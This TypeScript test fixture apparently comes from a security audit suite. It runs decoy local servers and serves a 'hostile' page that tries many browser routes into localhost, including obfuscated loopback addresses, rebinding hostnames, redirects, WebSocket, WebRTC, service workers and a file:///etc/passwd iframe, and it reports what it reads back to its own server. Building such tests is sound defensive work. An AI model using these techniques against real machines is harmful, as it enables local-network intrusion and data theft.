import { once } from 'node:events';
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { join } from 'node:path';

/** Stand-ins for the product's own sockets, which an audited page must never reach: they record everything that arrives. */
export type Inside = {
  port: number;
  peerPort: number;
  transportPort: number;
  unixPath: string;
  arrivals: string[];
  close: () => Promise<void>;
};

export async function startInside(folder: string): Promise<Inside> {
  const arrivals: string[] = [];
  const http = createServer((request, response) => {
    arrivals.push(`http ${request.method} ${decodeURIComponent(request.url ?? '')}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', request.url === '/events' ? 'text/event-stream' : 'text/plain');
    response.end('secret');
  });
  http.on('connection', () => arrivals.push('tcp'));
  http.on('upgrade', (request, socket) => {
    arrivals.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  const unixPath = join(folder, 'events.sock');
  const unix = createTcpServer((socket) => {
    arrivals.push('unix');
    socket.destroy();
  });
  // IPv6 and IPv4 alike, so that an attempt at [::1] would find a listener.
  http.listen(0, '::');
  unix.listen(unixPath);
  const [peer, transport] = [listenForPackets('peer packet', arrivals), listenForPackets('transport packet', arrivals)];
  await Promise.all([
    once(http, 'listening'),
    once(unix, 'listening'),
    once(peer, 'listening'),
    once(transport, 'listening'),
  ]);
  const close = async () => {
    http.closeAllConnections();
    peer.close();
    transport.close();
    await Promise.all([closed(http), closed(unix)]);
  };
  return {
    port: (http.address() as AddressInfo).port,
    peerPort: peer.address().port,
    transportPort: transport.address().port,
    unixPath,
    arrivals,
    close,
  };
}

function listenForPackets(name: string, arrivals: string[]): Socket {
  const socket = createSocket('udp4');
  socket.on('message', () => arrivals.push(name));
  return socket.bind(0, '127.0.0.1');
}

/** Starts a site that tries every attack that a page has, and reports the results to its own server. */
export async function startHostileSite(
  inside: Inside,
): Promise<{ port: number; told: string[]; close: () => Promise<void> }> {
  const told: string[] = [];
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://hostile.localhost');
    if (url.pathname === '/told') told.push(decodeURIComponent(url.search.slice(1)));
    if (url.pathname === '/redirect')
      return void response.writeHead(302, { location: `http://127.0.0.1:${inside.port}/redirected` }).end();
    if (url.pathname === '/refresh')
      return void response
        .writeHead(200, { 'content-type': 'text/html', refresh: `0; url=http://127.0.0.1:${inside.port}/refreshed` })
        .end();
    if (url.pathname === '/worker.js')
      return void response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(`for (const url of ${JSON.stringify(waysIn(inside))}) fetch(url, { mode: 'no-cors' }).catch(() => {});`);
    if (url.pathname === '/service.js')
      return void response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(
          `addEventListener('install', (event) => event.waitUntil(fetch('http://127.0.0.1:${inside.port}/service', { mode: 'no-cors' })));`,
        );
    if (url.pathname === '/')
      return void response
        .writeHead(200, { 'content-type': 'text/html', link: `<http://127.0.0.1:${inside.port}/>; rel=preconnect` })
        .end(hostilePage(inside));
    response.end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    told,
    close: async () => {
      server.closeAllConnections();
      await closed(server);
    },
  };
}

/** Every spelling of this machine's address, and names that resolve to it. */
export const spellings = [
  '127.0.0.1',
  'localhost',
  'any.localhost',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '0.0.0.0',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '[::]',
  'rebinding.test',
  'inside.test',
  'localhost.',
] as const;

function waysIn({ port }: Inside): string[] {
  return spellings.map((host) => `http://${host}:${port}/${encodeURIComponent(host)}`);
}

function hostilePage(inside: Inside): string {
  const { port, peerPort, transportPort, unixPath } = inside;
  return `<!doctype html><html lang=en><title>Hostile</title>
<link rel=preconnect href="http://127.0.0.1:${port}"><link rel=prefetch href="http://127.0.0.1:${port}/prefetch"><link rel=stylesheet href="http://127.0.0.1:${port}/style">
<img src="http://127.0.0.1:${port}/image"><img src="/redirect"><iframe src="/redirect"></iframe><iframe src="/refresh"></iframe><iframe src="http://127.0.0.1:${port}/frame"></iframe>
<iframe src="file://${unixPath}"></iframe><iframe src="file:///etc/passwd"></iframe><iframe src="view-source:http://127.0.0.1:${port}/source"></iframe><a href="http://127.0.0.1:${port}/link?hostile.localhost" ping="http://127.0.0.1:${port}/ping">on</a>
<form action="http://127.0.0.1:${port}/form" method=post target=f><input name=a></form><iframe name=f></iframe>
<script>
const told = (what) => fetch('/told?' + encodeURIComponent(what));
const attempt = async (name, act) => { let got; try { got = String(await act()) } catch (error) { got = 'refused' } told(name + ': ' + got) };
for (const url of ${JSON.stringify(waysIn(inside))}) attempt(url, () => fetch(url).then((answer) => answer.ok ? answer.text() : 'refused'));
attempt('redirect', () => fetch('/redirect').then((answer) => answer.ok ? answer.text() : 'refused'));
attempt('file', () => fetch('file://${unixPath}').then(() => 'read'));
attempt('websocket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:${port}/socket'); socket.onopen = () => resolve('open'); socket.onerror = reject }));
attempt('events', () => new Promise((resolve, reject) => { const source = new EventSource('http://127.0.0.1:${port}/events'); source.onopen = () => resolve('open'); source.onerror = () => { source.close(); reject() } }));
attempt('beacon', () => navigator.sendBeacon('http://127.0.0.1:${port}/beacon', 'x') && 'queued');
attempt('transport', () => new WebTransport('https://127.0.0.1:${transportPort}/').ready.then(() => 'open'));
attempt('rtc', async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${peerPort}', 'stun:127.0.0.1:${port}?transport=tcp'].slice(0, 1) }, { urls: ['turn:127.0.0.1:${peerPort}?transport=udp', 'turn:127.0.0.1:${port}?transport=tcp', 'turns:127.0.0.1:${port}?transport=tcp'], username: 'a', credential: 'b' }] });
  const candidates = [];
  peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate);
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ${peerPort} typ host', sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {});
  await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1500) });
  return candidates.length + ' candidates';
});
new Worker('/worker.js');
attempt('service worker', () => navigator.serviceWorker.register('/service.js').then(() => 'registered'));
document.forms[0].submit();
attempt('end', () => new Promise((resolve) => setTimeout(() => resolve('reached'), 1800)));
</script>`;
}

function closed(server: Server | TcpServer): Promise<unknown> {
  return new Promise((resolve) => {
    server.close(resolve);
  });
}
